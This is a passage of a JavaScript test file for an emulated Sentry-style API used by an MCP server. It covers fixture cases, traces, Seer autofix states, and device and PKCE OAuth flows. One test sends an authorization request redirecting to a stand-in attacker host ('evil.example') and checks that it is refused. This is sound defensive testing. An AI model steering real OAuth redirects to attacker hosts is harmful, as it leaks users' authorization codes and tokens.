    child.kill("SIGTERM");
    assert.deepEqual(await exited, { code: 0, sig: null });
  } finally {
    clearTimeout(killer);
  }
});

// --- initech: every other kind of data (fixtures/initech.mjs, facts in fixtures/categories.mjs) ------

/** Does `needle` occur in any string (or number, or key) inside `value`? */
function contains(value, needle) {
  if (value == null) return false;
  if (typeof value === "string") return value.includes(needle);
  if (typeof value === "number" || typeof value === "boolean") return String(value) === needle;
  if (Array.isArray(value)) return value.some((v) => contains(v, needle));
  return Object.entries(value).some(([k, v]) => k.includes(needle) || contains(v, needle));
}

/** Everything the MCP server could fetch for one case, through the HTTP endpoints it uses. */
async function caseResponses(c) {
  const base = `/organizations/${c.org}`;
  const out = { issue: (await ok(`${base}/issues/${c.issueId}/`)).json };
  out.byShortId = (await ok(`${base}/issues/${c.shortId}/`)).json;
  out.events = (await ok(`${base}/issues/${c.issueId}/events/?full=true`)).json;
  if (c.eventId) out.event = (await ok(`${base}/issues/${c.issueId}/events/${c.eventId}/`)).json;
  if (out.issue.issueCategory === "feedback") out.reports = (await ok(`${base}/issues/${c.issueId}/user-reports/`)).json;
  if (c.traceId) {
    out.trace = (await ok(`${base}/trace/${c.traceId}/`)).json;
    out.traceMeta = (await ok(`${base}/trace-meta/${c.traceId}/`)).json;
  }
  if (c.query) {
    const qs = c.query.field.map((f) => `field=${encodeURIComponent(f)}`).join("&");
    out.discover = (await ok(`${base}/events/?dataset=${c.query.dataset}&${qs}&query=${encodeURIComponent(c.query.query ?? `issue:${c.shortId}`)}&per_page=100`)).json;
  }
  if (c.kind.startsWith("seer/")) out.seer = (await ok(`${base}/issues/${c.issueId}/autofix/`)).json;
  return out;
}

test("initech: every case is served and its facts appear in the JSON", async () => {
  assert.ok(CASES.length >= 35, `cases ${CASES.length}`);
  for (const c of CASES) {
    assert.ok(c.facts.length >= 1, c.kind);
    assert.ok(c.attackerWritten.every((f) => c.facts.includes(f)), `${c.kind}: attackerWritten ⊆ facts`);
    const r = await caseResponses(c);
    assert.equal(r.issue.shortId, c.shortId);
    assert.equal(r.byShortId.id, c.issueId);
    for (const fact of c.facts) assert.ok(contains(r, fact), `${c.kind} (${c.shortId}): ${JSON.stringify(fact)} not in the responses`);
  }
  const kinds = new Set(CASES.map((c) => c.kind));
  const wanted = [
    ...["n_plus_one_db_queries", "n_plus_one_api_calls", "slow_db_query", "consecutive_db_queries", "consecutive_http", "file_io_main_thread", "db_main_thread", "render_blocking_asset_span", "uncompressed_assets", "large_http_payload", "http_overhead"].map((k) => `performance/${k}`),
    "regression/endpoint", "regression/function", "feedback/with-event", "feedback/without-event", "cron/missed_checkin", "cron/timeout", "uptime/domain-failure", "metric-alert", "replay/rage-click", "replay/dead-click",
    "error/javascript", "error/node", "error/python", "error/java+threads", "error/cocoa+threads+debug-images", "error/go", "event/default", "event/csp", "event/nel", "event/expectct", "event/unknown-type:trace_metric",
    "trace/older-format", "trace/newer-format", "discover/array-and-object-cells", "seer/autofix-state", "seer/explorer-state-without-solution",
  ];
  for (const k of wanted) assert.ok(kinds.has(k), `missing case ${k}`);
});

test("initech: performance issues carry an occurrence and the offending and parent spans", async () => {
  for (const c of CASES.filter((x) => x.kind.startsWith("performance/"))) {
    const e = (await ok(`/organizations/initech/issues/${c.issueId}/events/latest/`)).json;
    assert.equal(e.id, c.eventId);
    assert.equal(e.type, "transaction");
    const occ = e.occurrence;
    for (const k of ["evidenceDisplay", "evidenceData", "type", "issueTitle", "subtitle"]) assert.ok(occ[k] != null, `${c.shortId} occurrence.${k}`);
    assert.ok(occ.evidenceDisplay.every((d) => typeof d.name === "string" && typeof d.value === "string" && typeof d.important === "boolean"));
    const spans = e.entries.find((x) => x.type === "spans").data;
    for (const id of occ.evidenceData.offenderSpanIds) {
      const s = spans.find((x) => x.span_id === id);
      assert.ok(s && s.op && s.description && s.timestamp > s.start_timestamp, `${c.shortId} offender ${id}`);
    }
    const parent = occ.evidenceData.parentSpanIds[0];
    assert.ok(spans.some((x) => x.span_id === parent) || e.contexts.trace.span_id === parent, `${c.shortId} parent span`);
    assert.equal(occ.evidenceData.transactionName, e.title);
  }
});

test("initech: trace formats, awkward values, feedback without an event", async () => {
  const legacy = (await ok(`/organizations/initech/trace/${INITECH_TRACES.legacy}/`)).json;
  assert.ok(Array.isArray(legacy) && legacy[0].transaction && "description" in legacy[0] && !("occurrences" in legacy[0]));
  assert.equal(legacy[0].children[0].performance_issues[0].issue_short_id, "CHECKOUT-API-3");
  assert.equal(legacy[0].children[0].errors[0].issue_id, 8024);
  const eap = (await ok(`/organizations/initech/trace/${INITECH_TRACES.eap}/`)).json;
  const flat = [];
  const walk = (n) => (flat.push(n), (n.children ?? []).forEach(walk));
  eap.forEach(walk);
  assert.ok(flat.every((n) => n.description === null && typeof n.name === "string" && typeof n.is_transaction === "boolean"));
  assert.ok(flat.some((n) => n.occurrences.length) && flat.some((n) => n.errors.length));
  assert.ok(!("performance_issues" in flat[0]));
  // the default format is unchanged for the other initech traces
  const n1 = CASES.find((c) => c.kind === "performance/n_plus_one_db_queries");
  const plain = (await ok(`/organizations/initech/trace/${n1.traceId}/`)).json;
  assert.ok(typeof plain[0].description === "string" && plain[0].is_segment === true);

  // assignment: absent (GATEWAY-4) vs unassigned (null)
  const list = (await ok("/organizations/initech/issues/?query=&limit=100")).json;
  assert.equal(list.length, 32);
  assert.ok(!("assignedTo" in list.find((i) => i.shortId === "GATEWAY-4")));
  assert.equal(list.find((i) => i.shortId === "STOREFRONT-9").assignedTo, null);
  assert.equal((await ok("/organizations/initech/issues/?query=issue.category:cron")).json.length, 2);
  assert.equal((await ok("/organizations/initech/issues/?query=is:unresolved%20issue.category:cron")).json.length, 1);
  // null tag key and value, query string vs pairs, empty lists, missing sections
  const js = (await ok("/organizations/initech/issues/STOREFRONT-9/events/latest/")).json;
  assert.ok(js.tags.some((t) => t.key === null) && js.tags.some((t) => t.value === null));
  assert.equal(typeof js.entries.find((x) => x.type === "request").data.query, "string");
  assert.deepEqual(js.entries.find((x) => x.type === "breadcrumbs").data.values, []);
  const node = (await ok("/organizations/initech/issues/GATEWAY-4/events/latest/")).json;
  assert.ok(Array.isArray(node.entries.find((x) => x.type === "request").data.query));
  assert.equal(node.user, null);
  assert.ok(!("os" in node.contexts));
  const csp = (await ok("/organizations/initech/issues/STOREFRONT-11/events/latest/")).json;
  assert.equal(csp.sdk, null);
  const unknown = (await ok("/organizations/initech/issues/CHECKOUT-API-10/events/latest/")).json;
  assert.equal(unknown.type, "trace_metric");
  // discover cells: arrays and objects
  const d = (await ok("/organizations/initech/events/?field=id&field=error.type&field=user.geo&field=tags.key&query=issue:STOREFRONT-9")).json;
  assert.ok(d.data.length >= 1 && Array.isArray(d.data[0]["error.type"]) && typeof d.data[0]["user.geo"] === "object");
  // feedback without a stored event: the issue and its report answer, the events do not
  assert.equal((await api("/organizations/initech/issues/STOREFRONT-6/events/latest/")).status, 404);
  assert.deepEqual((await ok("/organizations/initech/issues/STOREFRONT-6/events/")).json, []);
  const fb = (await ok("/organizations/initech/issues/STOREFRONT-6/")).json;
  assert.equal(fb.metadata.contact_email, "joanna@example.net");
  // the org is reachable by slug but not listed
  assert.ok(!(await ok("/organizations/")).json.some((o) => o.slug === "initech"));
});

test("initech: Seer states in both shapes, and a new run", async () => {
  const old = (await ok("/organizations/initech/issues/CHECKOUT-API-9/autofix/")).json.autofix;
  assert.equal(old.status, "COMPLETED");
  assert.deepEqual(old.steps.map((s) => s.type), ["default", "root_cause_analysis", "solution"]);
  assert.ok(old.steps[1].causes[0].description.includes("US-TX"));
  const explorer = (await ok("/organizations/initech/issues/LEDGER-SVC-1/autofix/")).json.autofix;
  assert.equal(explorer.status, "completed");
  assert.deepEqual(explorer.blocks.flatMap((b) => b.artifacts.map((a) => a.key)), ["root_cause"]);
  const issue = (await ok("/organizations/initech/issues/LEDGER-SVC-1/")).json;
  assert.ok(issue.seerAutofixLastTriggered);

  const start = await api("/organizations/initech/issues/STOREFRONT-9/autofix/", { method: "POST", body: {} });
  assert.equal(start.status, 202);
  assert.ok(Number.isInteger(start.json.run_id));
  const s1 = (await ok("/organizations/initech/issues/STOREFRONT-9/autofix/")).json.autofix;
  assert.deepEqual([s1.run_id, s1.status], [start.json.run_id, "processing"]);
  const again = await api("/organizations/initech/issues/CHECKOUT-API-9/autofix/", { method: "POST", body: {} });
  const r1 = (await ok("/organizations/initech/issues/CHECKOUT-API-9/autofix/")).json.autofix;
  assert.deepEqual([r1.run_id, r1.status, Array.isArray(r1.steps)], [again.json.run_id, "PROCESSING", true]);
  emu.reset();
  assert.equal((await ok("/organizations/initech/issues/CHECKOUT-API-9/autofix/")).json.autofix.run_id, old.run_id);
});

test("device authorization flow (RFC 8628): pending, slow_down, approval, single use", async () => {
  const form = (fields) => ({ method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: new URLSearchParams(fields) });
  const base = `http://127.0.0.1:${emu.port}`;
  assert.equal((await fetch(`${base}/oauth/device/code/`, form({ client_id: "nope", scope: "org:read" }))).status, 401);
  const code = await (await fetch(`${base}/oauth/device/code/`, form({ client_id: "sentry-e2e-device-app", scope: "org:read project:write" }))).json();
  assert.match(code.user_code, /^[0-9A-F]{4}-[0-9A-F]{4}$/);
  assert.equal(code.verification_uri, `${base}/oauth/device/`);
  const poll = () => fetch(`${base}/oauth/token/`, form({ grant_type: "urn:ietf:params:oauth:grant-type:device_code", device_code: code.device_code, client_id: "sentry-e2e-device-app" }));
  assert.equal((await (await poll()).json()).error, "authorization_pending");
  assert.equal((await (await poll()).json()).error, "slow_down", "polled faster than the interval");
  assert.equal((await fetch(`${base}/oauth/device/`, form({ user_code: code.user_code, decision: "approve" }))).status, 200);
  await new Promise((r) => setTimeout(r, code.interval * 1000));
  const token = await (await poll()).json();
  assert.match(token.access_token, /^sntryo_/);
  const me = await api("/", { token: token.access_token });
  assert.equal(me.status, 200);
  await new Promise((r) => setTimeout(r, code.interval * 1000));
  assert.equal((await (await poll()).json()).error, "invalid_grant", "a device code is used once");
});

test("public client's authorization code: loopback redirect, PKCE S256 checked, no device endpoint when switched off", async () => {
  const form = (fields) => ({ method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: new URLSearchParams(fields), redirect: "manual" });
  const base = `http://127.0.0.1:${emu.port}`;
  const client = "sentry-e2e-device-app";
  const verifier = "v".repeat(50);
  const challenge = crypto.createHash("sha256").update(verifier).digest("base64url");
  const redirect = "http://127.0.0.1:9/callback";
  const authorize = (q) => fetch(`${base}/oauth/authorize/?${new URLSearchParams({ response_type: "code", client_id: client, scope: "org:read", ...q })}`);
  assert.equal((await authorize({ redirect_uri: "https://evil.example/cb", code_challenge: challenge, code_challenge_method: "S256" })).status, 400, "a public client redirects to loopback only");
  assert.equal((await authorize({ redirect_uri: redirect })).status, 400, "a public client must send PKCE");
  assert.equal((await authorize({ redirect_uri: redirect, code_challenge: challenge, code_challenge_method: "S256" })).status, 200);
  const codeFor = async () => {
    const r = await fetch(`${base}/oauth/authorize/`, form({ client_id: client, scope: "org:read", redirect_uri: redirect, state: "s", code_challenge: challenge, decision: "approve" }));
    return new URL(r.headers.get("location")).searchParams.get("code");
  };
  const exchange = (code, code_verifier) => fetch(`${base}/oauth/token/`, form({ grant_type: "authorization_code", client_id: client, code, redirect_uri: redirect, code_verifier }));
  assert.equal((await (await exchange(await codeFor(), "w".repeat(50))).json()).error, "invalid_grant", "a wrong verifier is refused");
  const token = await (await exchange(await codeFor(), verifier)).json();
  assert.match(token.access_token, /^sntryo_/);
  const off = await fetch(`${base}/__emulator/oauth/config`, { method: "POST", body: JSON.stringify({ deviceFlow: false }) });
  assert.equal((await off.json()).deviceFlow, false);
  assert.equal((await fetch(`${base}/oauth/device/code/`, form({ client_id: client }))).status, 404);
  await fetch(`${base}/__emulator/oauth/config`, { method: "POST", body: "{}" });
  assert.notEqual((await fetch(`${base}/oauth/device/code/`, form({ client_id: client }))).status, 404);
});
